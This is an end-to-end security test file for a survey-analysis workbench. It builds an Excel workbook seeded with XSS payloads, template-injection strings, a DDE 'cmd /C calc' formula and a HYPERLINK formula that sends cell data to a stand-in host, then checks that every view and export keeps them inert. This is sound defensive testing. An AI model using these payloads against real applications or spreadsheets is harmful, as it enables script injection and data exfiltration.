import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { AnalysisRoom } from './pages/analysisRoom.ts';
import { DataRoom } from './pages/dataRoom.ts';
import { Frame } from './pages/frame.ts';
import { ImportSheet } from './pages/importSheet.ts';
import { ReportRoom } from './pages/reportRoom.ts';
import { StartScreen } from './pages/startScreen.ts';
import { readWord } from './support/documents.ts';
import { pictureOfFailure } from './support/pictureOfFailure.ts';
import { launchBrowser, openWorkbench, type Workbench } from './support/workbench.ts';

/** Each would set window.__x, ask for a file, or open a dialog where it is taken for markup or code. */
const picture = '<img src=x onerror="window.__x=1">';
const script = '<script>window.__x=2;alert(1)</script>';
const svgTag = '<svg/onload=window.__x=3>';
const link = '<a href="javascript:window.__x=4">点这里</a>';
const template = '%{x}${window.__x=5}{{constructor.constructor("window.__x=6")()}}';
const hyperlink = '=HYPERLINK("https://evil.invalid/?"&A1,"查看")';
const command = "=cmd|' /C calc'!A0";
const starters = ['+1+1', '-2+3', '@SUM(1)', '＝1+1', '\t=1+1'];

/** Labels of the rating questions. */
const questions = [picture, script, svgTag, link, template, '__proto__', 'constructor', 'toString'];
const comments = [picture, script, link, hyperlink, command, ...starters];
const shops = [picture, '__proto__', hyperlink];
const forms = 60;

async function hostileWorkbook(path: string): Promise<void> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('<img src=x onerror=__x=7>');
  sheet.addRow(['编号', ...questions.map(() => '实际感受'), '总体满意度', '门店', '您还有哪些意见和建议']);
  sheet.addRow(['编号', ...questions, '总体满意度', '门店', '您还有哪些意见和建议']);
  for (let form = 0; form < forms; form++) {
    sheet.addRow([
      `S${form + 1}`,
      ...questions.map((_, item) => 1 + ((form * 7 + item * 3 + (form % 5)) % 10)),
      1 + ((form * 7) % 10),
      shops[form % shops.length],
      comments[form % comments.length],
    ]);
  }
  sheet.getCell('B3').note = `${script}${picture}`;
  await workbook.xlsx.writeFile(path);
}

/** What must never be: code that ran, elements made of the survey's texts. ownScripts: inline scripts the page has of itself. */
const harm = (page: Page, ownScripts = 0): Promise<readonly string[]> =>
  page.evaluate((expected) => {
    const found: string[] = [];
    const flag = Reflect.get(globalThis, '__x') as unknown;
    if (flag !== undefined) found.push(`ran: ${String(flag)}`);
    if (Reflect.get({}, 'polluted') !== undefined) found.push('prototype');
    for (const one of document.querySelectorAll('img[src="x"], svg[onload], [onerror], [onload]'))
      found.push(one.outerHTML.slice(0, 120));
    const inline = document.querySelectorAll('script:not([src])').length;
    if (inline !== expected) found.push(`inline scripts: ${inline}`);
    for (const one of document.querySelectorAll('a, [*|href]')) {
      const target = one.getAttribute('href') ?? one.getAttribute('xlink:href') ?? '';
      if (/^\s*javascript:|evil\.invalid/i.test(target)) found.push(one.outerHTML.slice(0, 120));
    }
    return found;
  }, ownScripts);

describe('a workbook full of hostile texts', () => {
  let workbench: Workbench;
  const dialogs: string[] = [];
  const requests: string[] = [];
  beforeAll(async () => {
    workbench = await openWorkbench('web');
    workbench.page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    workbench.page.on('request', (request) => requests.push(request.url()));
  });
  afterEach(async ({ task }) => {
    await pictureOfFailure(workbench, task);
    // After each room: nothing ran, nobody was asked, nothing was fetched.
    expect(await harm(workbench.page)).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(requests.filter((url) => new URL(url).pathname === '/x')).toEqual([]);
    expect(workbench.complaints).toEqual([]);
    expect(workbench.foreignRequests).toEqual([]);
  });
  afterAll(() => workbench.stop());

  it('is imported with every text as it is', async () => {
    const { page, folders } = workbench;
    const sheet = new ImportSheet(page);
    const path = join(folders.home, 'hostile.xlsx');
    await hostileWorkbook(path);
    await new StartScreen(page).chooseWorkbook(workbench, path);
    await sheet.proposed();
    expect(await sheet.range()).toEqual(['1', '2', '3', String(forms + 2)]);
    await sheet.dialog.getByText(picture).first().waitFor();
    expect(await harm(page)).toEqual([]);
    await sheet.next();
    await sheet.column('C').click();
    expect(await sheet.column('C').innerText()).toContain(script);
    expect(await sheet.column('G').innerText()).toContain('__proto__');
    expect(await harm(page)).toEqual([]);
    await sheet.next();
    expect(await harm(page)).toEqual([]);
    await sheet.finish();
  });

  it('is shown in the sheet, its heads, its inspector and its menus', async () => {
    const { page } = workbench;
    const data = new DataRoom(page);
    await data.ready();
    const head = data.grid.locator('.ag-header-cell').filter({ hasText: picture });
    await head.click();
    expect(await head.locator('.data-header-label').getAttribute('title')).toContain(picture);
    await data.inspector.getByText(picture).first().waitFor();
    await data.showQuestion('您还有哪些意见和建议');
    const shown = await Promise.all(
      comments.slice(0, 5).map(async (_, row) => (await data.cell('您还有哪些意见和建议', row)).innerText()),
    );
    expect(shown).toEqual(comments.slice(0, 5));
    // Typed over by hand: a formula stays a text.
    await data.type('您还有哪些意见和建议', 0, `${command}${picture}`);
    await expect
      .poll(async () => (await data.cell('您还有哪些意见和建议', 0)).innerText())
      .toBe(`${command}${picture}`);
    await data.showQuestion('门店');
    await (await data.cell('门店', 0)).hover();
    await data.inspector.locator('.ant-segmented-item').nth(1).click();
    await data.inspector.getByText(picture).first().waitFor();
  });

  it('names indicators', async () => {
    const { page } = workbench;
    await new Frame(page).goTo('指标');
    await page.getByRole('button', { name: '从空白开始' }).click();
    const tree = page.getByRole('treegrid', { name: '指标体系' });
    await tree.focus();
    await page.keyboard.press('End');
    await page.keyboard.press('Enter');
    await page.keyboard.press('Control+a');
    await page.keyboard.type(`${script}${picture}`);
    await page.keyboard.press('Enter');
    await tree.getByRole('row', { name: `${script}${picture}` }).waitFor();
    for (const name of ['__proto__', 'constructor', picture, script]) {
      await page
        .getByRole('listitem')
        .filter({ hasText: name })
        .first()
        .click({ modifiers: ['Control'] });
    }
    await page.getByRole('button', { name: /^归入“.*（4 道）$/ }).click();
    await expect.poll(() => tree.locator('.indicators-chip').count()).toBe(4);
  });

  it('is analysed and drawn', async () => {
    const { page } = workbench;
    const analysis = new AnalysisRoom(page);
    const frame = new Frame(page);
    await frame.goTo('分析');
    await expect.poll(() => frame.runningIndex()).toMatch(/^CSI \d/);
    for (const title of ['顾客满意度指数', '描述统计', '频数分布', '分顾客特征的指数']) {
      await analysis.open(title);
      const card = await analysis.result();
      await card.getByRole('table').first().waitFor();
      if ((await card.locator('.figure-frame').count()) > 0) await analysis.drawn(card);
      expect(await harm(page), title).toEqual([]);
    }
    const groups = analysis.page.locator('.analysis-card-selected');
    const text = await groups.innerText();
    expect(text).toContain(picture);
    expect(text).toContain('__proto__');
    // The chart says the same as the table, as letters.
    const drawn = await groups
      .locator('.main-svg')
      .first()
      .evaluate((node) => node.textContent ?? '');
    expect(drawn).toContain('__proto__');
    expect(drawn).toContain('<img');
    await groups.locator('.figure-plot').first().hover();
  });

  it('is reported, and exported as a page and as a Word file', async () => {
    const { page } = workbench;
    const report = new ReportRoom(page);
    await new Frame(page).goTo('报告');
    await report.draft();
    expect(await report.paper.innerText()).toContain('__proto__');
    expect(await harm(page)).toEqual([]);

    const html = await workbench.saveFile('hostile.html', () => report.chooseFormat('网页'));
    const docx = await workbench.saveFile('hostile.docx', () => report.chooseFormat('Word'));
    const word = await readWord(page, docx);
    expect(word.malformed).toEqual([]);
    expect(word.text).toContain(picture);
    expect(word.text).toContain('__proto__');
    expect(word.fields.filter((field) => /HYPERLINK|DDE|INCLUDE/i.test(field))).toEqual([]);

    // Opened as a file, without this program's policy around it.
    const browser = await launchBrowser();
    const stranger = await browser.newPage();
    const asked: string[] = [];
    stranger.on('dialog', (dialog) => void dialog.dismiss().then(() => dialogs.push(dialog.message())));
    stranger.on('request', (request) => asked.push(request.url()));
    await stranger.goto(pathToFileURL(html).href);
    await stranger.waitForLoadState('load');
    expect(await stranger.locator('body').innerText()).toContain(picture);
    // Its figures as data, and the script that draws them: those two, and the survey's texts stay texts in the charts.
    await stranger.locator('[data-figure]').first().scrollIntoViewIfNeeded();
    await stranger.locator('.csi-chart .main-svg').first().waitFor();
    expect(await harm(stranger, 2)).toEqual([]);
    await stranger.locator('table[data-sortable] th button').first().click();
    expect(await harm(stranger, 2)).toEqual([]);
    expect(asked.filter((url) => !url.startsWith('data:') && url !== pathToFileURL(html).href)).toEqual([]);
    await browser.close();
  });

  it('leaves as data without a formula in it', async () => {
    const { page } = workbench;
    await new Frame(page).goTo('项目');
    const save = page.getByRole('button', { name: '导出…' });
    await page.getByText('文本表格 (.csv)').click();
    const csv = readFileSync(await workbench.saveFile('hostile.csv', () => save.click()), 'utf8');
    const cells = csv
      .replace(/^\uFEFF/, '')
      .split(/\r?\n/)
      .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? [])
      .map((cell) => cell.replace(/,$/, '').replaceAll(/^"|"$/g, '').replaceAll('""', '"'));
    expect(cells.filter((cell) => /^[=+@\t\r＝＋＠]/.test(cell) || /^-(?!\d+(\.\d+)?$)/.test(cell))).toEqual([]);
    // Blanks at the ends go at import; what they hid is a formula all the same.
    for (const text of [hyperlink, command, ...starters]) expect(cells).toContain(`'${text.trim()}`);
    expect(cells).toContain(picture);

    await page.getByText('Excel 工作簿 (.xlsx)').click();
    const parts = unzipSync(readFileSync(await workbench.saveFile('hostile-out.xlsx', () => save.click())));
    const sheets = Object.entries(parts).filter(([name]) => /^xl\/worksheets\/.*\.xml$/.test(name));
    expect(sheets.length).toBeGreaterThan(0);
    for (const [name, bytes] of sheets) {
      expect(strFromU8(bytes), name).not.toMatch(/<f[ >]/);
      expect(strFromU8(bytes), name).not.toMatch(/<hyperlink/);
    }
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(join(workbench.folders.saved, 'hostile-out.xlsx'));
    const texts: string[] = [];
    for (const sheet of workbook.worksheets)
      sheet.eachRow((row) => row.eachCell((cell) => void texts.push(String(cell.value))));
    for (const text of [hyperlink, command, picture]) expect(texts).toContain(text);
  });
});
